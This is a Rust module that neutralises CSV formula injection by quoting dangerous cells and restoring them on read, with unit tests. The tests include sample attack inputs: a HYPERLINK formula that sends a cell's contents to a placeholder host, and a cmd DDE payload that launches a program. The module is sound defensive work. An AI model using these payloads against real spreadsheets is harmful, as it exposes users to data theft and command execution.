//! Would a spreadsheet run this cell as a formula?
//!
//! Formula injection (OWASP, "CSV Injection"): a cell that begins with `=`, `+`, `-`, `@`, a tab
//! or a carriage return may be run as a formula when a CSV file is opened in a spreadsheet
//! (`=HYPERLINK(...)` sends data away, `=cmd|...` runs a program). Agencies' data reaches every
//! file Sightline writes, so every writer neutralises such a cell as OWASP describes: a single
//! quote in front, which a spreadsheet shows as text.
//!
//! - [`neutralise`]: for CSV cells. A value that reads whole as a number (`-3`, `+44`, `-1.5e3`)
//!   is left alone: a spreadsheet reads it as that number, not as a formula, and numeric
//!   columns stay numeric.
//! - [`needs_neutralising`]: for workbook text cells, which writers mark with the
//!   "quote prefix" style instead (the same single quote, kept outside the value: Excel never
//!   runs a text cell, and with the prefix it stays text even when edited).
//! - [`restore`]: for every reader of files Sightline may have written. It takes the quote
//!   off again, so that `restore(neutralise(v)) == v` for every value (a test and a fuzz target
//!   hold it). A value that itself begins with quotes before a formula character gets one
//!   more quote, so nothing is ambiguous.

use std::borrow::Cow;

/// The characters a spreadsheet may take as the start of a formula.
const TRIGGERS: [char; 6] = ['=', '+', '-', '@', '\t', '\r'];

/// Whether `text`, as it stands, could be run as a formula: it starts with a trigger and is
/// not simply a number.
fn dangerous(text: &str) -> bool {
    text.starts_with(TRIGGERS) && !is_number(text)
}

/// A plain decimal number: sign, digits, at most one point, an optional exponent.
fn is_number(text: &str) -> bool {
    let body = text.strip_prefix(['+', '-']).unwrap_or(text);
    let (mantissa, exponent) = match body.find(['e', 'E']) {
        Some(at) => (&body[..at], Some(&body[at + 1..])),
        None => (body, None),
    };
    let mut digits = 0;
    let mut points = 0;
    for c in mantissa.chars() {
        match c {
            '0'..='9' => digits += 1,
            '.' => points += 1,
            _ => return false,
        }
    }
    let exponent_ok = exponent.is_none_or(|e| {
        let e = e.strip_prefix(['+', '-']).unwrap_or(e);
        !e.is_empty() && e.chars().all(|c| c.is_ascii_digit())
    });
    digits > 0 && points <= 1 && exponent_ok
}

/// Whether a value needs the quote: it is dangerous once any quotes it starts with are set
/// aside (so that a value made of a quote and a formula keeps its own quote through a round
/// trip).
pub fn needs_neutralising(value: &str) -> bool {
    dangerous(value.trim_start_matches('\''))
}

/// The value as a CSV cell a spreadsheet will not run: a single quote in front when it needs
/// one.
pub fn neutralise(value: &str) -> Cow<'_, str> {
    if needs_neutralising(value) {
        Cow::Owned(format!("'{value}"))
    } else {
        Cow::Borrowed(value)
    }
}

/// The value a neutralised cell stands for: the quote [`neutralise`] added is taken off.
pub fn restore(cell: &str) -> &str {
    match cell.strip_prefix('\'') {
        Some(rest) if needs_neutralising(rest) => rest,
        _ => cell,
    }
}

/// [`restore`] in place, for readers that own their cells.
pub fn restore_in_place(cell: &mut String) {
    if cell.starts_with('\'') && needs_neutralising(&cell[1..]) {
        cell.remove(0);
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn formulas_get_a_quote() {
        for value in [
            "=HYPERLINK(\"http://example.invalid/?\"&A1,\"click\")",
            "+cmd|' /C calc'!A0",
            "-2+3",
            "@SUM(A1:A2)",
            "\t=1+1",
            "\r=1+1",
            "-",
            "+",
            "=",
        ] {
            assert_eq!(neutralise(value), format!("'{value}"), "{value:?}");
        }
    }

    #[test]
    fn numbers_and_plain_text_are_left_alone() {
        for value in [
            "-3", "+44", "-1.5", "-1.5e3", "12", "Smith", "", "O'Brien", "a=b",
        ] {
            assert_eq!(neutralise(value), value, "{value:?}");
        }
    }

    #[test]
    fn values_that_already_start_with_a_quote_keep_it() {
        assert_eq!(neutralise("'=1+1"), "''=1+1");
        assert_eq!(restore("''=1+1"), "'=1+1");
        // A quote before a number is the value's own too: the number is not a formula.
        assert_eq!(neutralise("'-3"), "'-3");
        // A quote before plain text is the value's own.
        assert_eq!(neutralise("'tis"), "'tis");
        assert_eq!(restore("'tis"), "'tis");
        assert_eq!(restore("'-3"), "'-3");
    }

    #[test]
    fn restore_undoes_neutralise() {
        for value in [
            "=HYPERLINK(\"x\")",
            "'=x",
            "''=x",
            "'",
            "''",
            "-3",
            "'-3",
            "-x",
            "'-x",
            "\t",
            "@",
            "plain",
            "",
        ] {
            assert_eq!(restore(&neutralise(value)), value, "{value:?}");
            let mut owned = neutralise(value).into_owned();
            restore_in_place(&mut owned);
            assert_eq!(owned, value, "{value:?}");
        }
    }
}
